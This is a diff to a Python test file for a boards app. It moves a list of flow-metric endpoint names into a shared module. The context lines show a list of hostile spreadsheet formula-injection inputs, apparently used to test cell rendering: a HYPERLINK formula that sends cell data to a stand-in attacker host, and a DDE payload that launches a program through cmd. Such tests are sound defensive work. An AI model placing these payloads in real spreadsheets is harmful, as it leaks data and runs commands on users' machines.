@@ -13,20 +13,8 @@ import pytest
 from boards.admission import task_move
 from boards.services import task_block
 from common.renderers import spreadsheet_cell
+from tests.flow.history import ENDPOINTS
 
-ENDPOINTS = [
-    "cfd",
-    "wip",
-    "cycle-times",
-    "throughput",
-    "aging",
-    "limits",
-    "queues",
-    "sle",
-    "advice",
-    "blockers",
-    "efficiency",
-]
 HOSTILE = [
     '=HYPERLINK("https://evil.example/?"&A1,"Click")',
     "+1+cmd|' /C calc'!A0",
